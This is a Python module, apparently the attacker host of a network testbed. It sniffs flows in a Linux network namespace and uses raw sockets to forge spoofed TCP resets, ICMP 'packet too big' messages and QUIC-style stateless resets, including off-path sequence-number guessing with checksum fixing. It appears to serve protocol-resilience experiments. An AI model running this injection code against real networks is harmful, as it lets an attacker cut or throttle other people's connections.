"""A host beside the path that forges packets of flows; scapy reads and crafts them.

    python -m crafted.attacker JSON OUT NETNS PORT

JSON lists attacks (`qbkit.testbed.attacks`), each of which begins with a SIGRTMIN. What passes PORT
of the router in the network namespace NETNS shows the ports of a flow and, to an attacker on-path,
its sequence numbers. Prints ``ready``, and writes to the table OUT what it sent, and when.
"""

import ctypes
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Raw

CLONE_NEWNET, ETH_P_ALL = 0x40000000, 3
WORD = 1 << 32
WATCH_S = 1.0
"""How long an attack waits for a packet of each flow that it strikes."""
QUOTED_BYTES = 8
"""Of the packet that is too big, ICMP quotes the IP header and so much (RFC 792)."""
TCP_SEQ = 4
RESET_PLACES = (36, 24)
"""Where a RST after an IP header has its checksum and its sequence number."""
TOO_BIG_CHECKSUM, TOO_BIG_QUOTE = 22, 28
"""Where ICMP after an IP header has its checksum and what it quotes."""
RESET_BYTES = 43
"""A stateless reset looks like a short packet: random bytes, the last 16 as a token (RFC 9000)."""
RESET_FIRST, RESET_FIXED_BITS = 0x40, 0x3F
"""A short header begins with the bits 01."""


def packets(namespace, port, flows):
    """The next packet from the sender of each flow that sends within `WATCH_S`."""
    wanted = {(flow["sender"], flow["receiver"]): flow for flow in flows}
    end_s = time.monotonic() + WATCH_S
    with link_of(namespace, port) as link:
        while wanted and (left_s := end_s - time.monotonic()) > 0:
            if not select.select([link], [], [], left_s)[0]:
                break
            seen = Ether(link.recv(65536))
            if IP in seen and (TCP in seen or UDP in seen):
                flow = wanted.pop((seen[IP].src, seen[IP].dst), None)
                if flow:
                    yield flow, seen[IP]


def link_of(namespace, port):
    """A socket that hears what passes a port in another network namespace."""
    libc, here = ctypes.CDLL(None), os.open("/proc/self/ns/net", os.O_RDONLY)
    there = os.open(namespace, os.O_RDONLY)
    libc.setns(there, CLONE_NEWNET)
    try:
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        link.bind((port, ETH_P_ALL))
        return link
    finally:
        libc.setns(here, CLONE_NEWNET)
        os.close(here)
        os.close(there)


def forged(attack, seen):
    """The packets of an attack on the flow of a packet that was seen, as bytes.

    scapy crafts the first; the others of an attacker who guesses are that with other numbers.
    """
    crafted = bytes(packet(attack, seen))
    if TCP not in seen:
        return [crafted]
    if attack["kind"] == "reset":
        number, places = seen[TCP].ack, RESET_PLACES
    else:
        number, places = seen[TCP].seq, (TOO_BIG_CHECKSUM, TOO_BIG_QUOTE + 4 * seen.ihl + TCP_SEQ)
    if not attack["on_path"]:
        first, count = random.getrandbits(32), attack["guesses"]
        return (numbered(crafted, *places, first + k * WORD // count) for k in range(count))
    return [numbered(crafted, *places, number)]


def packet(attack, seen):
    """A packet to the sender of the one that was seen, in its receiver's name.

    The sequence number is 0, which `numbered` replaces.
    """
    back = IP(src=seen.dst, dst=seen.src)
    if attack["kind"] == "too-big":
        quoted = seen.copy()
        if TCP in quoted:
            quoted[TCP].seq = 0
        words = bytes(quoted)[: 4 * seen.ihl + QUOTED_BYTES]
        claim = ICMP(type="dest-unreach", code="fragmentation-needed", nexthopmtu=attack["mtu"])
        return back / claim / Raw(words)
    if TCP in seen:
        return back / TCP(sport=seen[TCP].dport, dport=seen[TCP].sport, flags="R", seq=0)
    noise = bytearray(random.randbytes(RESET_BYTES))
    noise[0] = RESET_FIRST | noise[0] & RESET_FIXED_BITS
    return back / UDP(sport=seen[UDP].dport, dport=seen[UDP].sport) / Raw(bytes(noise))


def numbered(crafted, checksum_at, seq_at, seq):
    """A packet with another sequence number than 0, and the checksum that follows (RFC 1624)."""
    found = bytearray(crafted)
    struct.pack_into("!I", found, seq_at, seq % WORD)
    (checksum,) = struct.unpack_from("!H", found, checksum_at)
    total = (checksum ^ 0xFFFF) + sum(struct.unpack_from("!2H", found, seq_at))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    struct.pack_into("!H", found, checksum_at, total ^ 0xFFFF)
    return bytes(found)


def main(attacks, out, namespace, port):
    """Wait for the time of each attack, and strike."""
    random.seed(os.urandom(16))
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with open(out, "w", buffering=1) as rows:
        rows.write("time_ns,attack,flow,packets\n")
        print("ready", flush=True)
        for index, attack in enumerate(json.loads(attacks)):
            signal.sigwait({signal.SIGRTMIN})
            for flow, seen in packets(namespace, port, attack["flows"]):
                now, count = time.time_ns(), 0
                for one in forged(attack, seen):
                    sender.sendto(one, (seen.src, 0))
                    count += 1
                rows.write(f"{now},{index},{flow['index']},{count}\n")
    while True:
        signal.pause()


if __name__ == "__main__":
    main(*sys.argv[1:])
